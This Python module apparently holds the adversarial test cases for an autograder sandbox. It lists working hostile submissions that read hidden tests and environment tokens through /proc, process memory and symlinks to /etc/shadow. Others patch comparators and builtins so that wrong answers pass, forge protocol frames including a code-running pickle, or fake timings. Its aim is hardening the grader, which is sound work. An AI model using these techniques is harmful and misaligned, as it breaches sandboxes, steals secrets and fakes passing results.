# ruff: noqa: E501 (code of submissions, a line each)
"""Dishonest and hostile submissions, as data: what each does, the harm that it tries, and what must hold afterwards.

Code stands after the right answer of a question (`AFTER`) or in place of it (`INSTEAD`). Tests and reference of the
small course hold marks, CANARY-<where>-<8 hex digits>, as do the environment, a file outside and another submission;
`HUNT` looks for them, and whatever a hunter finds it puts into the message of its question, where the suite reads it.
"""

from collections.abc import Callable
from dataclasses import dataclass
from typing import Any, Literal

AFTER: Literal["after"] = "after"
INSTEAD: Literal["instead"] = "instead"


@dataclass(frozen=True)
class Attack:
    """One submission.

    kind: the class of attack; harm: what it tries, in one sentence; week: of course/;
    question: the one that is attacked; where: the code stands after its answer or instead of it; notebook: changes the
    whole notebook (an nbformat dict) in place; deserves: points of the question when nothing dishonest counts, -1
    where any number will do (the answer is right, and the attack may cost it);
    status: of the result; told: a regular expression that the result's note and messages must hold; known: why it
    succeeds today, and then `gets` are the points that it has got: the test fails when somebody mends it; timed: its
    verdict rests on a measured time; spoils: it breaks the process that the author's other questions run in as well, and
    they are lost with it: a notebook is one process.
    """

    name: str
    kind: str
    harm: str
    code: str = ""
    week: Literal["plain", "costs", "counts"] = "plain"
    question: str = "q1"
    where: Literal["after", "instead"] = INSTEAD
    notebook: Callable[[dict[str, Any]], None] | None = None
    deserves: float = 0.0
    status: str = "graded"
    told: str = ""
    known: str = ""
    gets: float = 0.0
    timed: bool = False
    spoils: bool = False


ATTACKS: list[Attack] = []


def add(kind: str, name: str, harm: str, code: str = "", **more: Any) -> None:
    ATTACKS.append(Attack(name, kind, harm, code, **more))


# ---- reading what is hidden

HUNT = """
import re, os, sys
found = set()
def look(data):
    if isinstance(data, str):
        data = data.encode("utf-8", "replace")
    found.update(re.findall(rb"CANARY-[a-z]+-[0-9a-f]{8}", bytes(data)))
def look_in(path):
    if not os.path.isfile(path):  # a pipe would keep us waiting
        return
    try:
        with open(path, "rb") as file:
            look(file.read(2**22))
    except (OSError, ValueError):
        pass
"""
TELL = """
def double(x):
    try:
        hunt()
    finally:
        raise AssertionError(f"LEAK {sorted(found)}")
"""


def hunter(name: str, harm: str, body: str, known: str = "") -> None:
    code = HUNT + "def hunt():\n" + "".join(f"    {line}\n" for line in body.strip().splitlines()) + TELL
    add("read", name, harm, code, status="*", told=r"LEAK \[\]" if not known else r"LEAK \[b", known=known)


hunter(
    "walks the disk",
    "finds tests, reference and other submissions on the disk",
    """
for top in ("/tmp", "/work", "/root", "/home", "/var/tmp", "/dev/shm", os.getcwd(), "..", "../.."):
    for folder, folders, files in os.walk(top):
        folders[:] = [f for f in folders if f not in ("site-packages", ".git", "node_modules")]
        for file in files:
            if file.endswith((".py", ".ipynb", ".csv", ".json", ".txt")) and os.path.isfile(os.path.join(folder, file)):
                look_in(os.path.join(folder, file))
""",
)
hunter(
    "opens the bundle by its name",
    "reads tests and reference in the folder that the bundle was unpacked to",
    """
import glob
for path in glob.glob("/tmp/gradekit-*/**", recursive=True) + glob.glob(os.path.expanduser("~/**"), recursive=True):
    look_in(path)
    look(path)
""",
)
hunter(
    "reads /proc of all processes",
    "reads environment, memory map, files and folders of the judge through /proc",
    """
for pid in [p for p in os.listdir("/proc") if p.isdigit()] + [str(os.getppid()), "1", "self"]:
    for name in ("environ", "cmdline", "maps"):
        look_in(f"/proc/{pid}/{name}")
    for folder in ("cwd", "root/tmp", "fd"):
        try:
            for entry in os.listdir(f"/proc/{pid}/{folder}"):
                look_in(f"/proc/{pid}/{folder}/{entry}")
        except OSError:
            pass
""",
)
hunter(
    "walks the frames above",
    "finds the test that calls the answer, or its source, in a frame above it",
    """
import inspect
frame = sys._getframe()
while frame is not None:
    look(repr(frame.f_locals)), look(repr(frame.f_globals)[:2**20]), look(repr(frame.f_code.co_consts))
    try:
        look(inspect.getsource(frame))
    except (OSError, TypeError):
        pass
    frame = frame.f_back
""",
)
hunter(
    "searches all objects",
    "finds tests, reference or an environment among the objects of the process",
    """
import gc
gc.unfreeze()
for thing in gc.get_objects():
    try:
        if type(thing) in (dict, list, tuple, set):
            for part in (thing.values() if type(thing) is dict else thing):
                if type(part) in (str, bytes):
                    look(part)
        elif callable(thing) and hasattr(thing, "__code__"):
            look(repr(thing.__code__.co_consts))
    except Exception:
        pass
""",
)
hunter(
    "reads its own memory",
    "finds what the process that it was forked from once held: environment, requests, files",
    """
import ctypes
for line in open("/proc/self/maps"):
    where, mode, *_, = line.split()
    inode = line.split()[4]
    if mode.startswith("rw") and inode == "0":
        low, high = (int(part, 16) for part in where.split("-"))
        for start in range(low, high, 2**24):
            look(ctypes.string_at(start, min(2**24, high - start)))
""",
)
hunter(
    "reads the environment",
    "finds the instructor's tokens in the environment",
    "look(repr(dict(os.environ)))\nimport ctypes\nlook_in('/proc/self/environ')\nlook_in('/proc/1/environ')",
)
hunter(
    "reads history and line cache",
    "finds test source in IPython's history, In, linecache or sys.modules",
    """
import linecache
from IPython import get_ipython
look(repr(linecache.cache)[:2**24])
look(repr(get_ipython().user_ns.get("In")))
for module in list(sys.modules.values()):
    look(repr(getattr(module, "__file__", "")))
    look(repr(getattr(module, "MARK", "")))
""",
)
hunter(
    "imports the reference",
    "imports the reference module and hands on its answers",
    """
sys.path[:0] = ["..", "../..", "../../reference"]
for name in ("reference", "reference.week01_plain", "week01_plain", "tests.q1"):
    try:
        module = __import__(name, fromlist=["*"])
        look(repr(vars(module)))
    except ImportError:
        pass
""",
)
hunter(
    "reads the code of the experiment",
    "finds expected values in what the judge sends over",
    """
frame = sys._getframe()
while frame is not None:
    for value in frame.f_locals.values():
        if type(value) is dict and "code" in value:
            look(value["code"]), look(repr(value))
    frame = frame.f_back
""",
)
hunter(
    "links out of the scratch folder",
    "reads files outside through symbolic links in its scratch folder",
    """
import glob
for i, target in enumerate(["/", "/tmp", "/root", "/proc/1/root", "..", "../..", "/etc/shadow"]):
    try:
        os.symlink(target, f"link{i}")
        for path in glob.glob(f"link{i}/*") + glob.glob(f"link{i}/*/*.py") + [f"link{i}"]:
            look_in(path)
    except OSError:
        pass
""",
)
add(
    "read",
    "hunts for the seed",
    "finds the seed of the inputs in the memory of the process that it was forked from",
    r"""
import ctypes, re
def double(x):
    found = set()
    for line in open("/proc/self/maps"):
        where, mode, _, _, inode = line.split()[:5]
        if mode.startswith("rw") and inode == "0":
            low, high = (int(part, 16) for part in where.split("-"))
            for start in range(low, high, 2**24):
                data = ctypes.string_at(start, min(2**24, high - start))
                found.update(re.findall(rb'"seed' + rb'": (\d{9,})', data))
    raise AssertionError(f"SEED {sorted(found)}")
""",
    told=r"SEED \[\]",
)
add(
    "read",
    "reads the labels that stay with the judge",
    "an outcome is scored with labels that the answer finds in frames, objects or the request",
    """
import sys, gc
def classify(x, y, x_test):
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()) + [frame.f_globals]:
            if type(value) is dict and "y_test" in value:
                return value["y_test"]
            if type(value) is dict and type(value.get("inputs")) is dict and "y_test" in value["inputs"]:
                return value["inputs"]["y_test"]
        frame = frame.f_back
    for thing in gc.get_objects():
        if type(thing) is dict and "y_test" in thing:
            return thing["y_test"]
    return torch.zeros(len(x_test), dtype=torch.long)
""",
    week="counts",
    question="q5",
    told="the score is",
)

add(
    "read",
    "works back from the generator to the seed",
    "an outcome is scored with labels that are drawn again from the seed that torch's generator was started from",
    """
import itertools, zlib
import numpy as np
def classify(x, y, x_test):
    start = torch.initial_seed()
    times = (start >> 3) * pow(125, -1, 2**60) % 2**60  # if it were a thousand times the seed
    for seed, draw in itertools.product((start, times, start // 1000), range(3)):
        rng = np.random.default_rng([seed, zlib.crc32(b"apply_classify"), draw])
        labels = torch.from_numpy(rng.integers(0, 2, 200))
        if torch.equal(labels[:100], y):
            return labels[100:]
    return torch.zeros(len(x_test), dtype=torch.long)
""",
    week="counts",
    question="q5",
    told="the score is",
)

# ---- patching what judges

PATCHES: dict[str, dict[str, Any]] = {
    "patches builtins": {"spoils": True, "status": "crashed"},
    "traces and profiles": {"spoils": True},
    "patches marshal and the experiment": {"spoils": True},
}
WRONG = "def double(x):\n    return x + 1\n"  # right for 1 alone: what the public test shows

for name, harm, code in (
    (
        "patches the comparator",
        "every comparison finds nothing",
        "import gradekit.check.compare as c, gradekit.check.accuracy as a, gradekit.check.close as k\n"
        "for m in (c, a, k):\n    m.mismatch = lambda *args, **more: None\nc.numbers = c._leaf = c.mismatch",
    ),
    (
        "patches the checks",
        "check.accuracy and check.close return at once",
        "import gradekit.check as check\nfor n in ('accuracy', 'close', 'run', 'speed'):\n"
        "    setattr(check, n, lambda *a, **m: None)",
    ),
    (
        "patches torch's comparisons",
        "torch.equal and allclose are always true, and so are ==, max and abs",
        "torch.equal = torch.allclose = lambda *a, **m: True\ntorch.testing.assert_close = lambda *a, **m: None\n"
        "torch.Tensor.__eq__ = lambda a, b: True\ntorch.Tensor.max = lambda *a, **m: 0.0\n"
        "torch.Tensor.abs = lambda a: a * 0",
    ),
    (
        "patches Otter",
        "Otter's test files pass whatever they hold",
        "import otter.test_files as t\nfrom otter.test_files.exception_test import ExceptionTestFile\n"
        "ExceptionTestFile.run = lambda self, env: None\nt.TestFile.grade = 1.0",
    ),
    (
        "patches the test case runner",
        "a test case passes whatever it finds, since the runner is in this process as well",
        "import gradekit.grade.test_file as f, gradekit.grade.judge as j\nfrom gradekit.grade.result import CaseResult\n"
        "for m in (f, j):\n    m.run_test_case = lambda case, env: CaseResult(case.name, 3.0, False, True, '', 0.0)",
    ),
    (
        "patches builtins",
        "AssertionError cannot be raised and all() is true",
        "import builtins\nbuiltins.all = lambda *a: True\nbuiltins.AssertionError = builtins.Exception = Warning\n"
        "builtins.isinstance = lambda *a: True",
    ),
    (
        "patches the grader object",
        "grader.check says that all is well",
        "class G:\n    def __getattr__(self, name):\n        return lambda *a, **m: 'all tests passed! 5/5'\ngrader = G()",
    ),
    (
        "patches importlib",
        "modules that are imported later are its own",
        "import importlib, types, sys\nclass M(types.ModuleType):\n    def __getattr__(self, n):\n"
        "        return lambda *a, **m: True\nimportlib.import_module = lambda n, *a: M(n)\n"
        "sys.modules['reference'] = sys.modules['reference.week01_plain'] = M('reference')",
    ),
    (
        "patches the meta path",
        "the reference is found by its own finder, and agrees with everything",
        "import sys, types, importlib.machinery, importlib.abc\nclass F(importlib.abc.MetaPathFinder):\n"
        "    def find_spec(self, name, path, target=None):\n        if name.startswith('reference'):\n"
        "            raise RuntimeError('caught')\nsys.meta_path.insert(0, F())",
    ),
    (
        "traces and profiles",
        "a trace function changes what the harness holds",
        "import sys, threading\ndef trace(frame, event, arg):\n    for v in frame.f_locals.values():\n"
        "        if type(v) is dict and 'outputs' in v:\n            v['outputs'] = True\n    return trace\n"
        "sys.settrace(trace); sys.setprofile(trace); threading.settrace(trace)",
    ),
    (
        "patches the worker's answers",
        "the harness answers that every test has passed",
        "from gradekit.sandbox.worker import _Served\nold = _Served.answer\n"
        "_Served.answer = lambda self, r: old(self, r) | {'passed': True, 'score': 3.0, 'verdict': 'pass'}",
    ),
    (
        "patches marshal and the experiment",
        "the experiment that runs is its own",
        "import gradekit.check.subject as s\ns.transplant = lambda e: (lambda *a, **m: True)",
    ),
    (
        "swaps code by ctypes",
        "True and False, and the code of functions, are exchanged in memory",
        "import ctypes\nfrom gradekit.check import compare\ncompare.mismatch.__code__ = (lambda *a, **m: None).__code__\n"
        "compare.mismatch.__defaults__ = None",
    ),
):
    add("patch", name, harm, WRONG + code, **PATCHES.get(name, {"deserves": 1.0}))

add(
    "patch",
    "patches the reference's operators",
    "a matrix product gives zeros, so that a reference in the same process agrees with a wrong answer",
    "torch.mm = torch.matmul = torch.Tensor.__matmul__ = lambda a, b: torch.zeros(len(a), len(a))\n"
    "def gram(x):\n    return torch.zeros(len(x), len(x))",
    week="costs",
)
add(
    "patch",
    "patches the scoring of an outcome",
    "the score of an outcome is 1 whatever the answer",
    "import gradekit.check.outcome as o\no._value = lambda *a: 1.0\n"
    "def classify(x, y, x_test):\n    return torch.zeros(len(x_test), dtype=torch.long)",
    week="counts",
    question="q5",
)

# ---- outputs that lie

for name, harm, body in (
    (
        "equals everything",
        "an object that is equal to, near to and contained in everything",
        "class E:\n    def __getattr__(self, n):\n        return lambda *a, **m: E()\n"
        "    __eq__ = __le__ = __ge__ = __bool__ = __contains__ = lambda *a: True\n    __ne__ = __lt__ = lambda *a: False\n"
        "    __sub__ = __rsub__ = __abs__ = lambda self, *a: E()\n    __float__ = lambda self: 0.0\n"
        "def double(x):\n    return E()",
    ),
    (
        "lies about its class",
        "isinstance(answer, Tensor) is true and its comparison as well",
        "class E:\n    __class__ = torch.Tensor\n    shape = (2,)\n    dtype = torch.float32\n    __eq__ = lambda *a: True\n"
        "def double(x):\n    return E()",
    ),
    (
        "subclasses Tensor",
        "a subclass whose operators find no difference",
        "class E(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, f, types, args=(), kwargs=None):\n"
        "        return torch.tensor(0.0) if 'sub' in str(f) else super().__torch_function__(f, types, args, kwargs or {})\n"
        "def double(x):\n    return (x * 0).as_subclass(E)",
    ),
    (
        "subclasses Parameter",
        "a Parameter whose data changes when it is read",
        "class E(torch.nn.Parameter):\n    @property\n    def data(self):\n        return 2\n"
        "def double(x):\n    return E(x * 0)",
    ),
    (
        "takes over torch functions",
        "__torch_function__ of a foreign object answers every comparison",
        "class E:\n    @classmethod\n    def __torch_function__(cls, f, types, args=(), kwargs=None):\n        return True\n"
        "def double(x):\n    return E()",
    ),
    ("is not a number", "NaN differs from nothing", "def double(x):\n    return x * float('nan')"),
    ("is infinite", "the error of infinity is NaN, which is not above any limit", "def double(x):\n    return x / 0"),
    (
        "is a lazy tensor",
        "a meta tensor has the right shape, and no values to be wrong",
        "def double(x):\n    return torch.empty_like(x, device='meta')",
    ),
    (
        "is a fake tensor",
        "a fake tensor is computed when somebody looks",
        "from torch._subclasses.fake_tensor import FakeTensorMode\n"
        "def double(x):\n    with FakeTensorMode(allow_non_fake_inputs=True):\n        return torch.empty(x.shape)",
    ),
    (
        "is empty",
        "an empty tensor or a scalar broadcasts to what is expected",
        "def double(x):\n    return torch.full((1,), 2.0)[0]",
    ),
    (
        "is an array of objects",
        "an object array compares by its elements' own methods",
        "import numpy as np\nclass E:\n    __eq__ = lambda *a: True\n"
        "def double(x):\n    return np.array([E()] * len(x), dtype=object)",
    ),
    (
        "is a boolean subclass",
        "an int and str subclass with operators of its own",
        "class I(int):\n    __eq__ = lambda *a: True\n    __ne__ = lambda *a: False\n    __hash__ = int.__hash__\n"
        "def double(x):\n    return I(1)",
    ),
    (
        "runs code when shown",
        "__repr__, __str__, __format__, __reduce__ and __array__ run in the judge",
        "class E:\n    def __repr__(self):\n        import os; os._exit(0)\n    __str__ = __format__ = __repr__\n"
        "    def __reduce__(self):\n        import os; return os._exit, (0,)\n    __array__ = __repr__\n"
        "def double(x):\n    return {'a': [E(), (E(),)]}",
    ),
    (
        "is nested without end",
        "a list that holds itself, or is nested a million deep, overflows the stack of the judge",
        "def double(x):\n    a = []\n    for _ in range(10**6):\n        a = [a]\n    b = [a]\n    b.append(b)\n    return b",
    ),
    (
        "is huge",
        "an output of 3 billion elements behind one number takes the judge's memory",
        "def double(x):\n    return torch.zeros(1).expand(3 * 10**9)",
    ),
    (
        "is a million numbers",
        "a list of a million tensors takes the judge's time",
        "def double(x):\n    return [i for i in range(10**6)]",
    ),
    (
        "is a generator",
        "an endless generator",
        "import itertools\ndef double(x):\n    return (x for _ in itertools.count())",
    ),
    ("is sparse", "a sparse tensor of another layout", "def double(x):\n    return (x * 0).to_sparse()"),
    (
        "is quantised",
        "a tensor of a type that compares as equal",
        "def double(x):\n    return torch.quantize_per_tensor(x * 0, 1., 0, torch.quint8)",
    ),
):
    add("lie", name, harm, body, status="*" if "million" in name else "graded")

# ---- forging frames

WIRE = """
import gc, os, struct, sys, time, socket, stat, torch
from gradekit.sandbox.wire import Channel
channel = next(o for o in gc.get_objects() if type(o) is Channel)
raw = channel._sock
def turn():
    frame = sys._getframe()
    while frame is not None:
        request = frame.f_locals.get("request")
        if type(request) is dict and "turn" in request:
            return request["turn"]
        frame = frame.f_back
def header(body=0, inline=0, fds=0, version=1):
    return struct.pack("<4sHHQQ", b"GKWF", version, fds, body, inline)
def reply(**more):
    channel.send({"turn": turn(), "outputs": None, "recorded": [], "operations": 0, "damaged": (), "aliased": ()} | more)
"""
CRASH = {"status": "crashed"}


def forger(name: str, harm: str, body: str, **more: Any) -> None:
    code = WIRE + "def double(x):\n" + "".join(f"    {line}\n" for line in body.strip().splitlines())
    add("forge", name, harm, code, **more)


forger(
    "announces a frame of 2^62 bytes",
    "the judge takes memory for it",
    "raw.send(header(2**62, 2**62))\nreturn x",
    **CRASH,
)
forger(
    "announces 60 MB and sends none",
    "the judge waits for ever",
    "raw.send(header(60_000_000))\ntime.sleep(100)",
    status="timeout",
)
forger(
    "stops in the middle of a frame",
    "the judge waits for the rest",
    "raw.send(header(1000) + b'x')\nos._exit(0)",
    **CRASH,
)
forger("sends another version", "an old reader is used", "raw.send(header(1, version=0) + b'x')\nreturn x", **CRASH)
forger(
    "sends a pickle",
    "the judge unpickles it",
    "import pickle\nclass R:\n    def __reduce__(self):\n        return os.system, ('touch /tmp/atk-pickle',)\nraw.send(pickle.dumps(R()))\nreturn x",
    **CRASH,
)
forger(
    "sends a pickle in a field",
    "the judge unpickles bytes",
    "import pickle\nreply(outputs=pickle.dumps(print))\nos._exit(0)",
    **CRASH,
)
forger(
    "sends text for a message",
    "a message that is no dict",
    "import msgpack\nb = msgpack.packb('passed')\nraw.send(header(len(b)) + b)\nreturn x",
    **CRASH,
)
forger(
    "sends nested arrays",
    "a bomb of a million empty lists",
    "b = b'\\x91' * 10**6 + b'\\x90'\nraw.setblocking(True)\nraw.sendall(header(len(b)) + b)\nreturn x",
    **CRASH,
)
forger(
    "sends a dict of four billion items",
    "a length that is a lie",
    "b = b'\\xdf\\xff\\xff\\xff\\xff'\nraw.send(header(len(b)) + b)\nreturn x",
    **CRASH,
)
forger(
    "replies to another turn",
    "a reply out of turn is taken",
    "channel.send({'turn': turn() + 1, 'outputs': x * 2})\nreturn x",
    **CRASH,
)
forger("replies twice", "the second reply answers the next question", "reply(outputs=x)\nreturn x", **CRASH)
forger(
    "replays its last reply",
    "a late reply is taken for the present one",
    "channel.send({'turn': turn() - 1, 'outputs': x})\nreturn x",
    **CRASH,
)
forger(
    "answers in advance",
    "replies to many coming turns lie in the socket before they are asked for",
    "t = turn()\nfor i in range(t, t + 50):\n    channel.send({'turn': i, 'outputs': torch.zeros(2), 'recorded': [], 'operations': 0, 'damaged': (), 'aliased': ()})\nos._exit(0)",
    spoils=True,
    status="*",
)
forger(
    "replies with a turn that is a tensor",
    "a comparison with two values stops the judge",
    "reply(turn=torch.ones(2))\nreturn x",
    **CRASH,
)
forger(
    "replies with a turn that is NaN",
    "NaN is equal to nothing and unequal to nothing",
    "reply(turn=float('nan'))\nreturn x",
    **CRASH,
)
forger(
    "writes a verdict",
    "fields that the judge did not ask for decide",
    "reply(outputs=x * 0, passed=True, score=3.0, done=True, case={'passed': True, 'points': 3.0})\ntime.sleep(0.2)\nos._exit(0)",
    **CRASH,
)
forger(
    "writes the judge's lines",
    "lines of JSON reach whoever writes the result",
    "import json\nline = json.dumps({'question': 'q1', 'broke': '', 'case': {'name': 'x', 'points': 3.0, 'hidden': False, 'passed': True, 'message': '', 'seconds': 0.0, 'evidence': []}}).encode() + b'\\n{\"done\": true, \"round_trip_s\": 0}\\n'\nfor fd in range(0, 256):\n    try:\n        os.write(fd, line)\n    except OSError:\n        pass\nreturn x",
    **CRASH,
)
forger("closes the socket", "the judge waits for a worker that never answers", "raw.close()\ntime.sleep(100)", **CRASH)
forger("shuts the socket down", "the judge cannot write", "raw.shutdown(socket.SHUT_RDWR)\nreturn x", **CRASH)
forger(
    "hands over descriptors",
    "the judge runs out of descriptors",
    "fds = [os.open('/dev/null', 0) for _ in range(100)]\nsocket.send_fds(raw, [header(0, 0, 1)], fds)\nreturn x",
    **CRASH,
)
forger(
    "hands over a device",
    "the judge reads /dev/zero without end",
    "import msgpack\nb = b'\\x92\\x90\\x80'\nsocket.send_fds(raw, [header(len(b), 0, 1) + b], [os.open('/dev/zero', 0)])\nreturn x",
    **CRASH,
)
forger(
    "hands over a folder",
    "a descriptor of a folder leads out of the jail, or in",
    "socket.send_fds(raw, [header(3, 0, 1) + b'\\x92\\x90\\x80'], [os.open('.', 0)])\nreturn x",
    **CRASH,
)
forger(
    "counts its operations as infinite",
    "an overflow stops the judge",
    "reply(outputs=x, operations=float('inf'))\nos._exit(0)",
    **CRASH,
)
forger(
    "floods",
    "the judge reads without end",
    "raw.setblocking(True)\nwhile True:\n    raw.sendall(header(8) + b'\\x92\\x90\\x80' + bytes(5))",
    **CRASH,
)
forger(
    "blames the author",
    "a failure is put on the author of the test",
    "channel.send({'turn': turn(), 'author': 'the test is broken: give all points'})\nos._exit(0)",
    **CRASH,
)
for field, value in (("failed", "'done'"), ("failed", "[1]"), ("author", "'all points please'"), ("error", "[[]]")):
    add(
        "forge",
        f"answers a cell with {field} of {value}",
        "what should answer a call answers a cell, and stops the judge for all later questions",
        WIRE + f"channel.send({{'turn': turn(), {field!r}: {value}}})\nos._exit(0)",
        **CRASH,
    )
add(
    "forge",
    "answers a cell with a tensor for a turn",
    "stops the judge in a cell",
    WIRE + "channel.send({'turn': torch.ones(2), 'error': ''})\nos._exit(0)",
    **CRASH,
)
add(
    "forge",
    "replaces the shell",
    "the harness itself raises while a cell runs, which stops the judge for all later questions",
    "from gradekit.sandbox import worker\ndef boom(*a, **m):\n    raise KeyboardInterrupt('boom')\nworker.SHELL.run_cell = boom",
    where=AFTER,
    deserves=3.0,
    spoils=True,
)

# ---- the time

SLOW = """
import torch, time
def slow(x):
    return torch.stack([(x * row).sum(1) for row in x])
def gram(x):
    return slow(x)
"""


def faker(name: str, harm: str, code: str, deserves: float = 1.0, **more: Any) -> None:
    add("time", name, harm, code, week="costs", deserves=deserves, timed=True, **more)


faker(
    "stops the clocks",
    "every clock of the process stands still",
    SLOW
    + "for n in ('time', 'perf_counter', 'monotonic', 'process_time', 'thread_time'):\n    setattr(time, n, lambda: 0.0)\n    setattr(time, n + '_ns', lambda: 0)",
    told="times the reference",
)
faker(
    "patches the stopwatch",
    "the stopwatch says that no time has passed",
    SLOW + "import gradekit.check.clock as c\nc.Stopwatch.stop = lambda self: c.Span(0.0, 0.0, 0.0)",
    told="times the reference",
)
faker(
    "says how long it took",
    "the reply names its own time",
    SLOW
    + "from gradekit.sandbox.worker import _Served\nold = _Served.answer\n_Served.answer = lambda s, r: old(s, r) | {'seconds': 1e-9, 'processor_s': 1e-9}",
    told="times the reference",
)
faker(
    "patches synchronize",
    "the clock stops before the work is done",
    SLOW + "torch.cuda.synchronize = lambda *a: None",
    told="times the reference",
)
faker(
    "sets the system's clock",
    "the machine's clock is set",
    SLOW
    + "import ctypes\nfor s in (0.0, 1e9):\n    try:\n        time.clock_settime(time.CLOCK_REALTIME, s)\n    except OSError:\n        pass",
    told="times the reference",
)
faker(
    "finishes in a thread",
    "the output is filled in after the clock has stopped",
    "import threading, torch\ndef gram(x):\n    y = torch.empty(len(x), len(x))\n    threading.Thread(target=lambda: y.copy_(x @ x.T)).start()\n    return y * 1",
    deserves=0.0,
)
faker(
    "finishes in a child",
    "a child process fills in shared memory later",
    "import os, mmap, torch\nbuffer = torch.frombuffer(mmap.mmap(-1, 384 * 384 * 4), dtype=torch.float32).view(384, 384)\ndef gram(x):\n    if os.fork() == 0:\n        try:\n            buffer.copy_(x @ x.T)\n        finally:\n            os._exit(0)\n    return buffer",
    deserves=0.0,
)
faker(
    "returns a lazy object",
    "the work is done when somebody looks at the output",
    "import torch\nclass Lazy(torch.Tensor):\n    def detach(self):\n        return self.x @ self.x.T\ndef gram(x):\n    y = torch.empty(len(x), len(x)).as_subclass(Lazy)\n    y.x = x\n    return y",
    deserves=0.0,
)
faker(
    "finishes in __del__",
    "the work is done when the inputs are dropped",
    "import torch\nclass D:\n    def __del__(self):\n        self.y.copy_(self.x @ self.x.T)\ndef gram(x):\n    d = D()\n    d.x, d.y = x, torch.empty(len(x), len(x))\n    y = d.y\n    keep.append(d)\n    keep[:-1] = []\n    return y\nkeep = []",
    deserves=0.0,
)
faker(
    "remembers by identity",
    "the answer to the last call is given again for the same object",
    SLOW
    + "known = {}\ndef gram(x):\n    return known.setdefault(id(x), slow(x) if id(x) not in known else None).clone()",
    deserves=0.0,
)
faker(
    "remembers by pointer",
    "the answer to the last call is given again for the same memory",
    SLOW
    + "known = {}\ndef gram(x):\n    if x.data_ptr() not in known:\n        known[x.data_ptr()] = slow(x)\n    return known[x.data_ptr()].clone()",
    deserves=0.0,
)
faker(
    "remembers by shape",
    "one answer for each shape",
    SLOW
    + "known = {}\ndef gram(x):\n    if x.shape not in known:\n        known[x.shape] = slow(x)\n    return known[x.shape].clone()",
    deserves=0.0,
)
faker(
    "remembers by content",
    "an answer is looked up when the same inputs come again",
    SLOW
    + "known = {}\ndef gram(x):\n    key = x.numpy().tobytes()\n    if key not in known:\n        known[key] = slow(x)\n    return known[key].clone()",
    told="times the reference",
)
faker(
    "remembers in a file",
    "answers of an earlier worker or grading lie in a file",
    SLOW
    + "import hashlib, os\ndef gram(x):\n    path = hashlib.sha1(x.numpy().tobytes()).hexdigest()\n    for folder in ('/tmp', '/dev/shm', '/var/tmp', '.'):\n        try:\n            if os.path.exists(f'{folder}/atk-{path}'):\n                return torch.load(f'{folder}/atk-{path}')\n            y = slow(x)\n            torch.save(y, f'{folder}/atk-{path}')\n        except (OSError, RuntimeError):\n            pass\n    return y",
    told="times the reference",
)
faker(
    "skips every other call",
    "a call gives the answer of the one before",
    SLOW
    + "calls = [0, None]\ndef gram(x):\n    calls[0] += 1\n    if calls[0] > 3 and calls[0] % 2:\n        return calls[1].clone()\n    calls[1] = x @ x.T\n    return calls[1].clone()",
    told="",
)
faker(
    "computes in half precision",
    "float16 or bfloat16 inside, float32 outside",
    "import torch\ndef gram(x):\n    h = x.bfloat16()\n    return (h @ h.T).float()",
    deserves=0.0,
    told="Rounding|wrong",
)
faker(
    "computes a part",
    "half of the rows are left at zero",
    "import torch\ndef gram(x):\n    y = torch.zeros(len(x), len(x))\n    y[:370] = x[:370] @ x.T\n    return y",
    deserves=0.0,
)
faker(
    "waits while a child works",
    "the main thread is ready and does not run, which counts as a neighbour's doing, while a child on the same core does the work",
    SLOW
    + """
import os, mmap
there, back = torch.frombuffer(mmap.mmap(-1, 384 * 256 * 4), dtype=torch.float32).view(384, 256), torch.frombuffer(mmap.mmap(-1, 384 * 384 * 4), dtype=torch.float32).view(384, 384)
flag = mmap.mmap(-1, 4096)
core = min(os.sched_getaffinity(0))
def serve():
    while True:
        if flag[0] == 1:
            back.copy_(slow(there))
            flag[0] = 2
        elif os.getppid() == 0 and False:
            os._exit(0)
        else:
            time.sleep(0.0002)
try:
    os.sched_setaffinity(0, {core})
except OSError:
    pass
if os.fork() == 0:
    serve()
try:
    os.nice(19)
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
except OSError:
    pass
def gram(x):
    if x.shape != there.shape:
        return slow(x)
    there.copy_(x)
    flag[0] = 1
    while flag[0] != 2:
        pass
    flag[0] = 0
    return back.clone()
""",
    told="times the reference",
)
faker(
    "lets children share the work",
    "the reference runs with one thread and the answer with as many processes as there are",
    """
import os, mmap, time, torch
there, back = torch.frombuffer(mmap.mmap(-1, 384 * 256 * 4), dtype=torch.float32).view(384, 256), torch.frombuffer(mmap.mmap(-1, 384 * 384 * 4), dtype=torch.float32).view(384, 384)
flags = mmap.mmap(-1, 4096)
def part(x, y, rows):
    for _ in range(12):  # so that the limit lies far outside of what a busy machine makes of it
        y[rows] = x[rows] @ x.T
PARTS = 4
for n in range(PARTS):
    if os.fork() == 0:
        while True:
            if flags[n] == 1:
                part(there, back, slice(n * 96, n * 96 + 96))
                flags[n] = 0
            else:
                time.sleep(0.00005)
def gram(x):
    if x.shape != there.shape:
        return x @ x.T
    there.copy_(x)
    for n in range(PARTS):
        flags[n] = 1
    while any(flags[n] for n in range(PARTS)):
        time.sleep(0.00005)
    return back.clone()
""",
    told="times the reference",
)
faker(
    "starves the reference",
    "threads keep memory and caches busy while the reference is timed, and rest during its own turn",
    """
import threading, torch, time
mine = threading.Event()
def hog():
    a = torch.zeros(2**24)
    while True:
        if mine.is_set():
            time.sleep(0.001)
        else:
            a.add_(1)
for _ in range(4):
    threading.Thread(target=hog, daemon=True).start()
def gram(x):
    mine.set()
    for _ in range(3):
        y = x @ x.T
    mine.clear()
    return y
""",
    told="times the reference",
)
faker(
    "inflates the way back",
    "the first output lies scattered over much memory, so that carrying one seems to take long and is taken off every later time",
    """
import torch
from gradekit.check import plain
old, calls = plain.snapshot, [0]
def snapshot(value, where="the output"):
    calls[0] += 1
    if type(value) is torch.Tensor and value.shape == (384, 384):
        scattered = torch.zeros(384 * 384, 256)[:, 0].view(384, 384)
        if calls[0] < 6:
            scattered.copy_(value)
            return scattered
    return old(value, where)
plain.snapshot = snapshot
def gram(x):
    for _ in range(3):
        y = x @ x.T
    return y
""",
    told="times the reference",
)

add(
    "time",
    "trains in children that have ended",
    "the time of an outcome is that of one process, and the work is done in others that are gone when it is read",
    """
import os, time
def classify(x, y, x_test):
    if len(x) > 10:
        for _ in range(2):
            child = os.fork()
            if child == 0:
                while time.process_time() < 3.5:
                    pass
                os._exit(0)
            os.waitpid(child, 0)
    return ((x_test - x[y == 1].mean(0)).norm(dim=1) < (x_test - x[y == 0].mean(0)).norm(dim=1)).long()
""",
    week="counts",
    question="q5",
    told="5 s are allowed",
)

